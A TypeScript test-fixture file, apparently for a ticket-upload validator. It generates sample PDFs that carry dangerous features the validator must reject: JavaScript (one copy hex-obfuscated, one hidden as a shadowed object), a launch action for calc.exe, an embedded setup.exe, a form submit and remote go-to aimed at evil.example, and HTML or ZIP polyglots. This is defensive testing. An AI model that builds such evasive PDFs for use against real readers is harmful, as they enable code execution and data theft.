import { AFRelationship, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'

/** A PDF of so many pages; `change` may put into it what a ticket never has. */
export async function samplePdf(pages = 1, change?: (document: PDFDocument) => unknown): Promise<Buffer> {
  const document = await PDFDocument.create()
  for (let page = 1; page <= pages; page++)
    document.addPage([595, 842]).drawText(`E-ticket, page ${page}`, { x: 50, y: 780 })
  await change?.(document)
  // Objects packed into compressed streams, where a search through the file's text finds nothing.
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

/** PDFs that are refused, each with the words that the refusal must hold. */
export const HOSTILE_PDFS: Record<string, { make: () => Promise<Buffer>; says: RegExp }> = {
  'a password': {
    make: async () => {
      const document = await PDFDocument.load(await samplePdf())
      document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' })
      return Buffer.from(await document.save())
    },
    says: /password/,
  },
  'restrictions of its owner': {
    make: async () => {
      const document = await PDFDocument.load(await samplePdf())
      document.encrypt({ userPassword: '', ownerPassword: 'owner' })
      return Buffer.from(await document.save())
    },
    says: /restrictions/,
  },
  'JavaScript at opening': {
    make: () => samplePdf(1, (document) => document.addJavaScript('main', 'app.alert(1)')),
    says: /JavaScript/,
  },
  'JavaScript spelt in hex, behind a reference': {
    make: async () => {
      const action = await samplePdf(1, ({ context, catalog }) => {
        const kind = context.register(PDFName.of('JavaScript'))
        catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: kind, URI: PDFString.of('x') }))
      })
      const text = action.toString('latin1')
      return Buffer.from(text.replaceAll('/JavaScript', '/J#61vaScript'), 'latin1')
    },
    says: /JavaScript/,
  },
  'a launch action': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
      ),
    says: /starts a program/,
  },
  'an attached file': {
    make: () =>
      samplePdf(1, (document) =>
        document.attach(new Uint8Array([77, 90, 1, 2]), 'setup.exe', { afRelationship: AFRelationship.Data }),
      ),
    says: /attached/,
  },
  'a form that sends': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(
          PDFName.of('OpenAction'),
          context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
        ),
      ),
    says: /sends or fetches/,
  },
  'an older version of an object with a script': {
    make: async () => {
      const bytes = await samplePdf(1)
      const hidden = '\n900 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n900 0 obj\n<< /S /GoTo >>\nendobj\n'
      return Buffer.concat([bytes.subarray(0, 15), Buffer.from(hidden), bytes.subarray(15)])
    },
    says: /JavaScript/,
  },
  'a file of another place to open': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoToR', F: PDFString.of('//evil.example/x.pdf') })),
      ),
    says: /sends or fetches/,
  },
  'a file inside to open': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoToE', T: { R: 'C' } })),
      ),
    says: /sends or fetches/,
  },
  'data to import': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'ImportData', F: PDFString.of('x.fdf') })),
      ),
    says: /sends or fetches/,
  },
  'a RichMedia scene': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('Extra'), context.obj([{ Type: 'Annot', Subtype: 'RichMedia' }])),
      ),
    says: /video, sound or 3D/,
  },
  'an XFA form': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
      ),
    says: /XFA/,
  },
  'a web page behind its end': {
    make: async () => Buffer.concat([await samplePdf(), Buffer.from('\n<script>alert(1)</script>')]),
    says: /another kind of file/,
  },
  'a web page at its beginning': {
    make: async () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF'),
    says: /another kind of file/,
  },
  'an archive behind its end': {
    make: async () => Buffer.concat([await samplePdf(), Buffer.from('504b0506' + '00'.repeat(18), 'hex')]),
    says: /another kind of file/,
  },
  'no pages at all': {
    make: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF'),
    says: /damaged/,
  },
}

// prettier-ignore
const IMAGES = {
  png: 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  jpeg: '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCABAAEADASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAL/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFgEBAQEAAAAAAAAAAAAAAAAAAAEF/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAwDAQACEQMRAD8AoBWIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA//2Q==',
  webp: 'UklGRkgAAABXRUJQVlA4IDwAAACwAwCdASpAAEAAPtFor1KoJiQioggBABoJaQDSNAZdVeIZMMAuIABlZ/4t+0f3thqbrOdd9GZs210AAAA=',
  // 64 by 64 points in one colour, by libheif's own encoder.
  heic: 'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAUJtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAAAAAAABAAAAImlsb2MAAAAAREAAAQABAAAAAAFmAAEAAAAAAAAAFgAAACNpaW5mAAAAAAABAAAAFWluZmUCAAAAAAEAAGh2YzEAAAAAwmlwcnAAAACkaXBjbwAAAHhodmNDAQNwAAAAAAAAAAAAHvAA/P34+AAADwMgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQCEAAQArQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbqSSmubgQEDAgAAAMACAAAAwAIQCIAAQAHRAHBcrAiQAAAABRpc3BlAAAAAAAAAEAAAABAAAAAEHBpeGkAAAAAAwgICAAAABZpcG1hAAAAAAAAAAEAAQOBAoMAAAAebWRhdAAAABIoAa8EGPyu3yOyoi/zvIjUwlM=',
}

/** Small images of each kind that is taken. */
export const SAMPLE_IMAGES = {
  png: Buffer.from(IMAGES.png, 'base64'),
  jpeg: Buffer.from(IMAGES.jpeg, 'base64'),
  webp: Buffer.from(IMAGES.webp, 'base64'),
  heic: Buffer.from(IMAGES.heic, 'base64'),
}
